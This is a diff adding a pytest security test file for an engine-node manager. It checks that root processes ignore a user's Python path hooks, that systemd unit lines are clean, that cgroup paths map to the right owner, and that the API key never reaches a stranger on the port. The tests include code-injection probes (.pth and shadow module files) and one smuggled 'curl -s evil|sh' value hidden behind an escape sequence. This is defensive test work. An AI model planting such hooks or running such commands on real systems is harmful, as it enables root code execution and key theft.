@@ -1,0 +1,121 @@
+"""Root runs no code of another user, and the engine's key goes to no process of another user."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import re
+import subprocess
+import threading
+from pathlib import Path
+
+import pytest
+
+from facts.rignode import pack
+from node.core import proc
+from node.engine import config
+from node.watch.own_unit import OwnUnit
+
+ROOT = Path(__file__).resolve().parents[3]
+UNITS = ROOT / "templates/etc/systemd/system"
+ID = "a" * 64
+
+
+def test_the_program_runs_nothing_of_a_users_python(tmp_path: Path) -> None:
+    """systemd gives a unit's lines of root the HOME of its User=."""
+    program, home, ran = tmp_path / "rignode.pyz", tmp_path / "home", tmp_path / "ran"
+    program.write_bytes(pack.zipapp_bytes())
+    program.chmod(0o755)
+    asked = ["python3", "-c", "import site; print(site.getusersitepackages())"]
+    environ = {"HOME": str(home), "PATH": "/usr/bin:/bin", "RIGBOOK_STATE": str(tmp_path / "s")}
+    folder = Path(subprocess.check_output(asked, env=environ, text=True).strip())
+    folder.mkdir(parents=True)
+    (folder / "x.pth").write_text(f"import os; os.mknod({str(ran)!r})\n")
+    assert str(folder).startswith(str(home))
+    subprocess.run(["python3", "-c", "pass"], env=environ, check=True)
+    assert ran.exists(), "a Python that is not isolated runs it: else this test shows nothing"
+    ran.unlink()
+    module = tmp_path / "path" / "json.py"
+    module.parent.mkdir()
+    module.write_text(f"import os; os.mknod({str(ran)!r})\n")
+    environ["PYTHONPATH"] = str(module.parent)
+    done = subprocess.run([program, "status"], env=environ, capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
+    assert not ran.exists()
+
+
+def test_roots_lines_of_a_unit_with_a_user_begin_with_nothing() -> None:
+    lines = [
+        line
+        for path in UNITS.glob("*.j2")
+        for line in path.read_text().splitlines()
+        if re.match(r"Exec\w+=[-@:!]*\+", line)
+    ]
+    assert len(lines) == 2
+    assert all("=+{{ clean }} " in line for line in lines), lines
+
+
+@pytest.mark.parametrize(
+    ("path", "unit", "container"),
+    [
+        ("/system.slice/rigbook-engine.service", "rigbook-engine.service", None),
+        ("/system.slice/rigbook-engine.service/sub", "rigbook-engine.service", None),
+        ("/system.slice/system-vllm.slice/vllm@1.service", "vllm@1.service", None),
+        (f"/system.slice/docker-{ID}.scope", None, ID),
+        (f"/docker/{ID}", None, ID),
+        # a user's own units and folders are called what he likes
+        (f"/user.slice/user-1000.slice/user@1000.service/docker-{ID}.scope", "user@1000.service",
+         None),
+        ("/user.slice/user-1000.slice/user@1000.service/app.slice/rigbook-engine.service",
+         "user@1000.service", None),
+        (f"/system.slice/other.service/docker-{ID}.scope", "other.service", None),
+        ("/system.slice/other.service/rigbook-engine.service", "other.service", None),
+        ("/user.slice/user-0.slice/x;curl -s evil|sh;\x1b[8m.service", None, None),
+    ],
+)  # fmt: skip
+def test_whose_process_it_is(path: str, unit: str | None, container: str | None) -> None:
+    assert (proc.unit_of(path), proc.container_of(path)) == (unit, container)
+
+
+def test_the_watch_gives_no_key_to_whoever_holds_the_port(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A user without root bound the port while the engine was down: he got the key, and `up`."""
+    seen: list[str | None] = []
+
+    class Stranger(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            self.rfile.read(int(self.headers["Content-Length"]))
+            seen.append(self.headers.get("Authorization"))
+            row = {"message": {"content": "I am somebody else"}, "finish_reason": "stop"}
+            raw = json.dumps({"model": "tiny", "choices": [row]}).encode()
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(raw)))
+            self.end_headers()
+            self.wfile.write(raw)
+
+        def log_message(self, *_args: object) -> None:
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stranger) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        port = server.server_address[1]
+        end = {"url": f"http://127.0.0.1:{port}", "model": "tiny", "reasoning": False,
+               "chat_template_kwargs": {}}  # fmt: skip
+        (tmp_path / "node.json").write_text(json.dumps({
+            "format": 1, "rig": "r", "node": "n", "role": "head", "rank": 0,
+            "unit": "rigbook-engine.service", "container": None, "image": None, "fabric": None,
+            "peers": [], "master": None, "endpoint": end, "ports": [port], "start_budget_s": 60,
+            "memory": {"gpu_memory_utilization": 0.5, "gpus": 0, "cpu_bytes": 0},
+            "needs_nvidia": False, "weights": "/models/x",
+            "venv": {"path": "/opt/v", "user": "nobody", "version": None},
+        }))  # fmt: skip
+        secrets = tmp_path / "secrets.env"
+        secrets.write_text("VLLM_API_KEY=sk-the-owners-key\n")
+        secrets.chmod(0o600)
+        monkeypatch.setenv("RIGBOOK_ENGINE", str(tmp_path / "node.json"))
+        monkeypatch.setenv("RIGBOOK_SECRETS", str(secrets))
+        reply = OwnUnit(config.load()).ask(5.0)
+        server.shutdown()
+    assert not reply.ok and "not this engine" in reply.detail
+    assert not any(seen)
